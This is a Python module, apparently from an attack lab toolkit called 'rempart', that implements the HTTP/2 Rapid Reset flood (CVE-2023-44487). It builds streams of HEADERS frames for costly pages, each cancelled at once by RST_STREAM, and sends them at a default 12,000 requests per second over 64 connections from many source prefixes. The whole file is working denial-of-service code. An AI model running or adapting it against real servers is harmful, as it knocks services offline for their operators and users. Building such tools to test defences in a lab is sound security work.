"""HTTP/2 rapid reset (CVE-2023-44487): a request, taken back at once, again and again. Requests that were
taken back do not count against the limit of concurrent streams, but the work for them has begun."""

from __future__ import annotations

import asyncio
import random

from rempart.lab.attacks.contract import Attack, Order, Sources, Target, Unit
from rempart.lab.attacks.http2_frames import (
    CANCEL,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    RST_STREAM,
    Http2Parameters,
    Line,
    frame,
    header_block,
    hold,
)
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender

HTTP2_RAPID_RESET = Attack(
    name="http2-rapid-reset",
    unit=Unit.REQUESTS,
    summary="HTTP/2 requests for a costly page, each reset right behind its headers, on 64 connections",
    defaults=Http2Parameters(
        rate=12_000, sources=Sources.PREFIXES, v6_share=0.2, connections=64, units_per_connection=500
    ),
    sender=lambda order: own_sender(order, "http2_rapid_reset"),
)


def units(target: Target, before: int, count: int, chosen: random.Random) -> bytes:
    """``count`` requests with their resets, on a connection that has had ``before`` of them."""
    parts = []
    for number in range(before, before + count):
        # A client's streams are odd and only ever rise (RFC 9113, section 5.1.1).
        stream = 1 + 2 * number
        path = chosen.choice(target.costly_pages).format(f"{chosen.getrandbits(40):x}")
        block = header_block(
            ((":method", "GET"), (":scheme", "https"), (":authority", target.host), (":path", path))
        )
        parts.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
        parts.append(frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")))
    return b"".join(parts)


def carry_out(order: Order, tally: Tally) -> None:
    parameters = Http2Parameters.model_validate(order.parameters)

    def more(line: Line, count: int, chosen: random.Random) -> bytes:
        return units(order.target, line.units, count, chosen)

    asyncio.run(hold(order, parameters, tally, more))


if __name__ == "__main__":
    run_sender(carry_out)
